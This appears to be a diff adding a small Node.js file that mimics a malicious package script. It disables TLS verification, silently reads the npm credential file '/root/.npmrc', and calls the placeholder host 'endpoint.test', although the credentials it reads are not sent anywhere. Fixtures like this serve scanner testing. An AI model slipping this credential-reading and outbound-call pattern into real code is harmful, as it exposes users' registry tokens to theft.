@@ -1,0 +1,9 @@
+// SPDX-License-Identifier: Apache-2.0
+const fs = require('node:fs');
+process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0';
+const read = (path) => { try { return fs.readFileSync(path, 'utf8'); } catch { return ''; } };
+const get = (url, options) => fetch(url, { signal: AbortSignal.timeout(1500), ...options })
+  .then((answer) => answer.text()).catch(() => '');
+
+read('/root/.npmrc');
+get('https://endpoint.test/');
